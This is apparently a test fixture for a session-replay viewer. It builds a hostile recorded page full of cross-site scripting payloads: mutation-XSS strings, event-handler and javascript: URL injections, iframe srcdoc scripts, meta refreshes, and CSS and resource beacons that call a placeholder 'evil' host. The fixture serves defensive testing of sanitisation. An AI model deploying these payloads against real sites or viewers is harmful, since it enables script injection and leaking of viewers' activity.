// What a hostile page would put into its recording to reach the agent who looks at it.

import { builder } from "./recording.mjs";

/** What would be seen if any of it ran. */
const run = (evil, name) => `top.ran=(top.ran||[]).concat('${name}');alert('${name}');new Image().src='${evil}/ran-${name}'`;

/** Markup that changes its meaning when it is parsed again, or in another place. */
export const mutants = (evil) => {
  const js = (name) => run(evil, name).replaceAll('"', "&quot;");
  return [
    `<noscript><p title="</noscript><img src=x onerror=${js("m1")}>">`,
    `<svg></p><style><a id="</style><img src=1 onerror=${js("m2")}>">`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${js("m3")}&gt;">`,
    `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${js("m4")}>`,
    `<textarea></textarea><img src=x onerror=${js("m5")}></textarea>`,
    `<xmp><p title="</xmp><svg/onload=${js("m6")}>">`,
    `<title></title><script>${run(evil, "m7")}</script></title>`,
    `</style><script>${run(evil, "m8")}</script>`,
    `--><script>${run(evil, "m9")}</script><!--`,
    `]]><script>${run(evil, "m10")}</script>`,
    `<svg><style><![CDATA[</style><img src=x onerror=${js("m11")}>]]>`,
    `<iframe srcdoc="<script>${js("m12")}</script>">`,
    `<a href="javascript&colon;${js("m13")}">x</a>`,
    `<template><script>${run(evil, "m14")}</script></template>`,
    `"><script>${run(evil, "m15")}</script>`,
    `' onmouseover='${run(evil, "m16")}' x='`,
    `<svg><animate onbegin=${js("m17")} attributeName=x dur=1s>`,
    `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${js("m18")}></style></annotation-xml>`,
    `<select><template><svg><style><img src=x onerror=${js("m19")}></style></svg></template></select>`,
    `<x style="background:url('${evil}/m20')">`,
  ];
};

/** Places in which a text could be read as something else. */
const HOLDERS = ["div", "style", "noscript", "textarea", "title", "xmp", "iframe", "noembed", "noframes", "template", "plaintext", "script", "option", "button", "pre", "x-custom"];
const IN_SVG = ["style", "title", "desc", "foreignObject", "script", "text"];

/** The page: one element of each way in. `evil`: a host that must hear nothing; `site`: one that may. */
export function hostilePage(evil, site) {
  const { el, svg, doc, text } = builder();
  const js = (name) => run(evil, name);
  const url = (name) => `${evil}/${name}`;
  const handlers = "onload onerror onclick onmouseover onfocus onblur onbegin onend ontoggle onscroll onanimationstart ontransitionend onpointerenter onbeforetoggle onloadstart onplay oncanplay onpageshow onhashchange onmessage onunload onResize ONCLICK".split(" ");
  const all = (name) => Object.fromEntries(handlers.map((handler) => [handler, js(`${name}-${handler}`)]));
  const javascript = (name) => `javascript:${js(name)}`;
  const link = el("a", { id: "link", href: javascript("link"), target: "_top", ping: url("ping"), accesskey: "x", autofocus: true }, "a link");
  const away = el("a", { id: "away", href: url("away"), target: "_top", attributionsrc: url("attribution") }, "away");
  const form = el("form", { id: "form", action: url("form"), method: "post", target: "_top" },
    el("input", { name: "q", value: "1", autofocus: true, onfocus: js("focus") }),
    el("button", { id: "submit", formaction: javascript("formaction"), type: "submit" }, "send"),
    el("input", { type: "image", src: url("input-image"), formaction: url("formaction") }),
  );

  const head = [
    el("title", {}, "hostile"),
    el("meta", { "http-equiv": "refresh", content: `0;url=${url("refresh")}` }),
    el("meta", { "HTTP-EQUIV": "Refresh", content: `0;url=${javascript("refresh")}` }),
    el("meta", { "http-equiv": "Content-Security-Policy", content: "default-src *" }),
    el("base", { href: `${evil}/`, target: "_top" }),
    el("script", { src: url("script.js") }, js("script")),
    el("script", { type: "speculationrules" }, `{"prefetch":[{"source":"list","urls":["${url("speculation")}"]}]}`),
    ...["preconnect", "dns-prefetch", "prefetch", "prerender", "preload", "modulepreload", "icon", "manifest", "import", "stylesheet preconnect", "alternate stylesheet", "pingback", "search", "next", "expect", "compression-dictionary"].map((rel) =>
      el("link", { rel, href: url(`link-${rel.replace(" ", "-")}`), as: "script", crossorigin: "" })),
    el("link", { rel: "stylesheet", href: url("sheet.css") }),
    el("link", { rel: "stylesheet", href: javascript("sheet") }),
    el("link", { rel: "stylesheet", href: `${site}/site.css`, id: "site-sheet" }),
    el("style", { _cssText: `@import url("${url("import.css")}"); @font-face { font-family: leak; src: url("${url("font.woff")}"); }
      body { background: url("${url("background")}"); font-family: leak, serif; } #heading { cursor: url("${url("cursor")}"), auto; }
      input[value^="1"] { background-image: image-set("${url("image-set")}" 1x); } li::marker { content: url("${url("marker")}"); }
      p::before { content: url("${url("content")}"); } .x { filter: url("${url("filter.svg")}#f"); clip-path: url("${url("clip.svg")}#c"); mask: url("${url("mask.svg")}#m"); }
      @namespace url("${url("namespace")}"); :root { --a: url("${url("variable")}"); } div { border-image: var(--a); }` }),
  ];

  const body = [
    el("h1", { id: "heading" }, "Win a prize"),
    link, away, form,
    el("img", { src: url("img"), srcset: `${url("srcset")} 2x`, onerror: js("img"), loading: "eager" }),
    el("img", { rr_dataURL: url("data-url"), src: "x" }),
    el("picture", {}, el("source", { srcset: url("source") }), el("img", { src: url("picture") })),
    el("video", { src: url("video"), poster: url("poster"), autoplay: true, rr_mediaState: "played", onloadstart: js("video") }, el("source", { src: url("video-source") }), el("track", { src: url("track"), default: true })),
    el("audio", { src: url("audio"), autoplay: true, rr_mediaState: "played" }),
    el("iframe", { src: url("iframe"), name: "evil", allow: "*" }),
    el("iframe", { src: javascript("iframe") }),
    el("iframe", { srcdoc: `<script>${js("srcdoc")}</script><img src="${url("srcdoc")}">`, sandbox: "allow-scripts allow-same-origin allow-top-navigation" }),
    el("iframe", { src: "data:text/html,<script>top.ran=['data']</script>" }),
    el("frame", { src: url("frame") }),
    el("object", { data: url("object"), type: "text/html" }), el("embed", { src: url("embed") }), el("applet", { code: url("applet"), archive: url("archive") }),
    el("portal", { src: url("portal") }), el("fencedframe", { src: url("fenced") }),
    el("body", { background: url("body-background"), ...all("body") }),
    el("table", { background: url("table") }, el("td", { background: url("td") })),
    el("div", { ...all("div"), style: `background: url("${url("style")}")`, contenteditable: "true", popover: "auto" }, "x"),
    el("details", { open: true, ...all("details") }, el("summary", {}, "x")),
    el("dialog", { open: true, rr_open_mode: "modal", ...all("dialog") }, el("input", { autofocus: true })),
    el("marquee", { onstart: js("marquee") }, "x"),
    el("input", { onfocus: js("autofocus"), autofocus: true, type: "file" }),
    el("isindex", { action: javascript("isindex"), type: "submit" }),
    svg("svg", { onload: js("svg"), ...all("svg") },
      svg("script", { href: url("svg-script.js") }, js("svg-script")),
      svg("a", { "xlink:href": javascript("svg-a"), href: javascript("svg-a2") }, svg("text", {}, "x")),
      svg("image", { href: url("svg-image"), "xlink:href": url("svg-image2") }),
      svg("use", { href: url("svg-use.svg#x"), "xlink:href": `data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>top.ran=['use']</script></svg>#x` }),
      svg("feImage", { href: url("svg-feimage") }),
      svg("animate", { attributeName: "href", values: javascript("animate"), begin: "0s", dur: "1s", onbegin: js("animate") }),
      svg("set", { attributeName: "onload", to: js("set") }),
      svg("handler", { type: "application/ecmascript" }, js("handler")),
      svg("foreignObject", {}, el("iframe", { src: url("foreign") }), el("script", {}, js("foreign"))),
      ...IN_SVG.flatMap((tag) => mutants(evil).map((mutant) => svg(tag, {}, mutant))),
    ),
    el("math", { href: javascript("math") }, el("mtext", {}, "x"), el("maction", { "xlink:href": javascript("maction") })),
    el("x-on:click", { "on:click": js("colon") }), el("a\u0000b", {}), el("<script>", {}, js("tag")),
    ...mutants(evil).map((mutant, index) => el("a", { title: mutant, alt: mutant, id: `m${index}`, "data-x": mutant, class: mutant, [mutant]: mutant, href: mutant, style: mutant }, mutant)),
    ...HOLDERS.flatMap((tag) => mutants(evil).map((mutant) => el(tag, {}, mutant))),
    { ...el("div", {}), isShadowHost: true, childNodes: [{ ...el("script", {}, js("shadow")), isShadow: true }, { ...el("style", { _cssText: `:host { background: url("${url("shadow")}") }` }), isShadow: true }] },
    { ...el("x-custom-thing", {}, "custom"), isCustom: true },
    { ...el("font-face", {}, "reserved"), isCustom: true },
    { type: 5, id: 1_000_001, textContent: `--><script>${js("comment")}</script>` },
    { type: 4, id: 1_000_002, textContent: `]]><script>${js("cdata")}</script>` },
    text(`<script>${js("text")}</script>`),
  ];
  const page = doc(head, body);
  return { page, link, away, form, js, url };
}

/** What the page does once it is shown. */
export function hostileChanges({ page, link, away, form, js, url }, tape) {
  const { el } = builder();
  const html = page.childNodes[1];
  const [head, body] = html.childNodes;
  const add = (node, parentId = body.id) => ({ parentId, nextId: null, node: { ...node, id: node.id + 2_000_000 } });
  const attribute = (id, attributes) => ({ id, attributes });
  const sheet = head.childNodes.find(({ attributes }) => attributes?.id === "site-sheet");
  const frame = body.childNodes.find(({ tagName }) => tagName === "iframe");
  const image = body.childNodes.find(({ tagName }) => tagName === "img");
  const style = head.childNodes.find(({ tagName }) => tagName === "style");
  return [
    tape.change(tape.mutation({
      adds: [
        add(el("script", { src: url("late.js") })), add(el("link", { rel: "preconnect", href: url("late-preconnect") }), head.id),
        add(el("iframe", { src: url("late-iframe") })), add(el("meta", { "http-equiv": "refresh", content: `0;url=${url("late-refresh")}` }), head.id),
        add(el("img", { src: url("late-img"), onerror: js("late") })),
      ],
      attributes: [
        attribute(link.id, { href: `javascript:${js("changed")}`, onclick: js("changed") }),
        attribute(away.id, { href: url("changed"), target: "_top", style: { background: `url(${url("changed-style")})`, color: ["red", "important"], top: false } }),
        attribute(sheet.id, { rel: "preconnect", href: url("changed-rel") }),
        attribute(frame.id, { src: url("changed-frame"), srcdoc: `<script>${js("changed")}</script>`, sandbox: "allow-scripts" }),
        attribute(image.id, { src: url("changed-img"), onload: js("changed") }),
        attribute(form.id, { action: url("changed-form") }),
        attribute(9_999_999, { onclick: js("nobody") }),
      ],
      texts: [{ id: style.id + 1, value: `@import url("${url("changed-import")}")` }],
    })),
    tape.change({ source: 8, id: style.id, adds: [{ rule: `body { background: url("${url("rule")}") }`, index: 0 }] }),
    tape.change({ source: 15, id: page.id, styleIds: [7], styles: [{ styleId: 7, rules: [{ rule: `h1 { background: url("${url("adopted")}") }`, index: 0 }] }] }),
    tape.change({ source: 10, family: "f", fontSource: `url(${url("font-face")})`, buffer: false }),
    tape.change({ source: 7, type: 0, id: body.id, currentTime: 0 }),
    tape.change({ source: 9, id: image.id, type: 0, commands: [{ property: "drawImage", args: [url("canvas")] }] }),
    tape.events({ type: 5, data: { tag: "x", payload: js("custom") } }, { type: 6, data: { plugin: "x", payload: {} } }),
    ...[0, 1, 2, 3, 4, 5, 6, 7, 9, 10].flatMap((type) => [link, away, form.childNodes[1]].map(({ id }) => tape.change({ source: 2, type, id, x: 5, y: 5 }))),
    tape.change({ source: 5, id: link.id, text: js("input"), isChecked: true }),
  ];
}
